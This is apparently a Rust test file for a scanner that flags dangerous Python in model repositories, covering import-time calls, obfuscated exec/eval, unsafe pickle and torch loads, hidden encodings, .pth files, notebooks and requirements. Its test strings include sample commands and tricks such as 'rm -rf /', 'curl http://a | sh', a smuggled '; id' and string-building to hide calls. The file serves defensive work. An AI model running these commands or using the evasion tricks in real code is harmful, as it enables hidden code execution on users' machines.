@@ -1,0 +1,252 @@
+//! Programs: dangerous calls are found under whatever name they go, and code that only defines models is a note.
+#![allow(clippy::expect_used, clippy::panic)] // a test fails by panicking
+
+mod repository_support;
+
+use max_weights::rules::{Answer, Severity};
+use repository_support::{folder, found, look, only, rules};
+
+/// A configuration by which loaders run modeling_x.py.
+const CONFIG: (&str, &str) = ("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}"#);
+
+/// The rules that a program breaks that loaders run.
+fn run(program: &str) -> Vec<&'static str> {
+    rules(&[CONFIG, ("modeling_x.py", program)])
+}
+
+/// The rules that a program breaks that nothing makes loaders run.
+fn beside(program: &str) -> Vec<&'static str> {
+    rules(&[("tool.py", program)])
+}
+
+#[test]
+fn what_a_program_calls_as_it_is_imported_is_malicious_under_every_name() {
+    for program in [
+        "import os\nos.system('id')\n",
+        "import os as o\no.system('id')\n",
+        "from os import system\nsystem('id')\n",
+        "from os import system as s\ns('id')\n",
+        "from os import *\nsystem('id')\n",
+        "import os.path\nos.system('id')\n",
+        "import subprocess\nsubprocess.run(['id'])\n",
+        "import posix\nposix.system('id')\n",
+        "import shutil\nshutil.os.system('id')\n",
+        "__import__('os').system('id')\n",
+        "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
+        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+        "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
+        "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('id')\n",
+        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')\n",
+        "import os\nname = 'system'\ngetattr(os, name)('id')\n",
+        "import os\ngetattr(os, input_name())('id')\n",
+        "getattr(__builtins__, 'ex' 'ec')('x = 1')\n",
+        "import builtins\nbuiltins.exec('x = 1')\n",
+        "import builtins\nbuiltins.__dict__['eval']('1')\n",
+        "vars(__import__('os'))['system']('id')\n",
+        "import sys\nsys.modules['os'].system('id')\n",
+        "globals()['__builtins__']['exec']('x')\n",
+        "import os\nf = os.system\nf('id')\n",
+        "import os\nlist(map(os.system, ['id']))\n",
+        "e = exec\ne('x = 1')\n",
+        "exec('x = 1')\n",
+        "𝐞𝐱𝐞𝐜('x = 1')\n",
+        "ｅｖａｌ('1')\n",
+        "eval(\"1\")\n",
+        "class X:\n    eval('1')\n",
+        "import os\n@os.system\ndef f(): pass\n",
+        "def f(x=eval('1')): pass\n",
+        "def f():\n    import os\n    os.system('id')\nf()\n",
+        "def f():\n    g()\ndef g():\n    eval('1')\nx = f()\n",
+        "class X:\n    def __init__(self):\n        exec('1')\nX()\n",
+        "class X:\n    def __init_subclass__(cls):\n        exec('1')\n",
+        "class X:\n    def go(self):\n        exec('1')\nx = X()\nx.go()\n",
+        "def f():\n    exec('1')\nregister(f)\n",
+        "(lambda: exec('1'))()\n",
+        "[exec(x) for x in ['1']]\n",
+        "try:\n    exec('1')\nexcept Exception:\n    pass\n",
+        "if __name__ != '__main__':\n    exec('1')\n",
+        "# a comment\rimport os\ros.system('id')\r",
+        "\u{feff}import os; os.system('id')",
+        "import socket\ns = socket.socket()\n",
+        "import urllib.request\nurllib.request.urlopen('http://a')\n",
+        "import requests\nrequests.get('http://a')\n",
+        "import ctypes\nctypes.CDLL('a.so')\n",
+        "import pickle\npickle.load(open('a', 'rb'))\n",
+        "import torch\nx = torch.load('a.bin')\n",
+        "import numpy as np\nnp.load('a.npy', allow_pickle = True)\n",
+        "x = (1,\nimport os\nos.system('id')\n",
+        "print 'x'\nexec 'import os'\n",
+    ] {
+        let rules = run(program);
+        assert!(rules.contains(&"repository.call-at-import"), "{program}: {rules:?}");
+    }
+}
+
+#[test]
+fn calls_in_functions_need_trust_and_say_where_they_stand() {
+    let program = "import os\n\nclass X:\n    def forward(self):\n        os.system('rm -rf /')\n";
+    let found = found(&[CONFIG, ("modeling_x.py", program)]);
+    let call = only("repository.call", &found);
+    assert_eq!((call.answer, call.file.as_str()), (Answer::NeedsTrust, "modeling_x.py"));
+    assert!(call.message.starts_with("line 5: os.system "), "{}", call.message);
+    assert!(call.message.contains("config.json"), "who runs it: {}", call.message);
+    assert_eq!(call.evidence, "os.system('rm -rf /')");
+    for program in [
+        "import torch\ndef f(p):\n    return torch.load(p)\n",
+        "import requests\ndef f(p):\n    return requests.get(p)\n",
+        "def f(p):\n    return eval(p)\n",
+        "if __name__ == '__main__':\n    exec('1')\n",
+    ] {
+        assert_eq!(run(program), ["repository.call", "repository.remote-code"], "{program}");
+    }
+}
+
+#[test]
+fn code_that_defines_models_is_a_note() {
+    let program = "
+import math
+import re
+import torch
+import torch.nn as nn
+from transformers import PreTrainedModel
+from .configuration_x import XConfig
+logger = logging.get_logger(__name__)
+pattern = re.compile('a')
+torch.load('a', weights_only=True)
+__import__('math')
+
+@torch.compile
+class X(PreTrainedModel):
+    config_class = XConfig
+    def __init__(self, config, eval=False):
+        super().__init__(config)
+        self.eval = eval
+    def run(self, compile=None):
+        self.model.eval()
+        self.system = self.os.path
+        return torch.compile(self), self.exec(1), torch.linalg.eval(1)
+
+def load(path):
+    return json.load(open(path))
+";
+    let found = found(&[CONFIG, ("modeling_x.py", program), ("configuration_x.py", "class XConfig: pass\n")]);
+    let severe: Vec<_> = found.iter().filter(|found| found.severity > Severity::Note).map(|found| found.rule).collect();
+    assert_eq!(severe, ["repository.remote-code"], "{found:#?}");
+    let notes: Vec<_> = found.iter().filter(|found| found.rule == "repository.program").collect();
+    assert!(notes.iter().any(|note| note.message.contains("modeling_x.py imports it")), "{notes:#?}");
+}
+
+#[test]
+fn a_program_that_no_loader_runs_is_judged_more_mildly_unless_it_hides_what_it_does() {
+    assert!(beside("import torch\ntorch.load('a')\n").is_empty());
+    assert!(beside("import requests\ndef f():\n    requests.get('http://a')\n").is_empty());
+    assert_eq!(beside("import requests\nrequests.get('http://a')\n"), ["repository.call"]);
+    assert_eq!(beside("import os\nos.system('id')\n"), ["repository.call"]);
+    for program in [
+        "import base64\nexec(base64.b64decode('eA=='))\n",
+        "import zlib\ncode = zlib.decompress(b'x')\nexec(code)\n",
+        "import urllib.request\nexec(urllib.request.urlopen('http://a').read())\n",
+        "import marshal\nexec(marshal.loads(b'x'))\n",
+        "exec(bytes.fromhex('78'))\n",
+    ] {
+        assert!(beside(program).contains(&"repository.call-at-import"), "{program}");
+    }
+}
+
+#[test]
+fn programs_that_run_by_their_names_are_judged_as_run() {
+    for name in [
+        "handler.py",
+        "hubconf.py",
+        "setup.py",
+        "conftest.py",
+        "__init__.py",
+        "modeling_y.py",
+        "custom_generate/generate.py",
+    ] {
+        let found = rules(&[(name, "import os\nos.system('id')\n")]);
+        assert_eq!(found, ["repository.call-at-import"], "{name}");
+    }
+}
+
+#[test]
+fn a_program_in_an_encoding_that_hides_it_is_malicious() {
+    for encoding in ["utf-7", "rot13", "unicode_escape", "raw-unicode-escape", "utf-16", "mbcs"] {
+        let program = format!("#!/usr/bin/python\n# -*- coding: {encoding} -*-\nx = 1\n");
+        assert_eq!(beside(&program), ["repository.program-encoding"], "{encoding}");
+    }
+    for encoding in ["utf-8", "UTF8", "latin-1", "cp1252"] {
+        assert!(beside(&format!("# coding={encoding}\nx = 1\n")).is_empty(), "{encoding}");
+    }
+}
+
+#[test]
+fn what_is_no_python_is_said_and_hides_nothing() {
+    assert_eq!(beside("def f(:\n    <<<<\n"), ["repository.program-unreadable"]);
+    let zeros = folder(&[("tool.py", b"x = 1\n\0import os\nos.system('id')\n")]);
+    let found: Vec<_> = look(zeros.path()).iter().map(|found| found.rule).collect();
+    assert!(found.contains(&"repository.program-unreadable") && found.contains(&"repository.call"), "{found:?}");
+}
+
+#[test]
+fn no_nesting_is_too_deep() {
+    let many = 50_000;
+    for program in [
+        format!("x = {}1{}\n", "(".repeat(many), ")".repeat(many)),
+        format!("x = {}1\n", "-".repeat(many)),
+        format!("x = {}1\n", "not ".repeat(many)),
+        format!("x = {}1\n", "lambda: ".repeat(many)),
+        format!("x = a{}\n", ".b".repeat(many)),
+        format!("x = a{}\n", "()".repeat(many)),
+        format!("x = 1{}\n", " + 1".repeat(many)),
+        format!("x = 1{}\n", " ** 1".repeat(many)),
+        format!("x = 1{}\n", " if 1 else 1".repeat(many)),
+        format!("x = {}", "f'{".repeat(many)),
+        "[".repeat(many),
+        "\"\"\"".repeat(many),
+        (0..2_000).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect(),
+    ] {
+        look(folder(&[("modeling_x.py", (program + "\nimport os\nos.system('id')\n").as_bytes())]).path());
+    }
+}
+
+#[test]
+fn notebooks_are_read_as_programs() {
+    let notebook = |lines: &str| {
+        format!(
+            r#"{{"cells": [{{"cell_type": "markdown", "source": ["exec('1')"]}}, {{"cell_type": "code", "source": [{lines}]}}]}}"#
+        )
+    };
+    let usual = notebook(
+        r#""!pip install torch\n", "%matplotlib inline\n", "import requests\n", "requests.get('http://a')\n""#,
+    );
+    let found = found(&[("a.ipynb", &usual)]);
+    assert_eq!(found.len(), 1, "{found:#?}");
+    assert!(only("repository.program", &found).message.contains("pip install"));
+    for lines in [r#""import os\n", "os.system('id')\n""#, r#""!curl http://a | sh\n""#, r#""!pip install a; id\n""#] {
+        assert_eq!(rules(&[("a.ipynb", &notebook(lines))]), ["repository.call"], "{lines}");
+    }
+}
+
+#[test]
+fn a_file_for_the_paths_of_python_is_no_weights() {
+    let found = found(&[("evil.pth", "/some/path\nimport os; os.system('id')\n")]);
+    assert_eq!(only("repository.path-file", &found).answer, Answer::NeedsTrust);
+    assert!(only("repository.call-at-import", &found).message.contains("line 2"));
+    assert!(rules(&[("paths.pth", "/some/path\n")]).is_empty());
+}
+
+#[test]
+fn requirements_by_address_are_a_note() {
+    let text = "torch>=2.0\n# http://a comment\ngit+https://github.com/a/b\n--extra-index-url http://a\n";
+    let finding = only("repository.requirement", &found(&[("requirements.txt", text)]));
+    assert_eq!(finding.severity, Severity::Note);
+    assert!(finding.message.contains("line 3") && finding.message.contains("1 more"), "{}", finding.message);
+    assert!(rules(&[("requirements.txt", "torch\nnumpy==2.0\n")]).is_empty());
+}
+
+#[test]
+fn a_program_or_configuration_that_is_too_long_is_said() {
+    let long = "x = 1\n".repeat(800_000);
+    assert_eq!(rules(&[("a.py", &long)]), ["repository.too-long"]);
+}
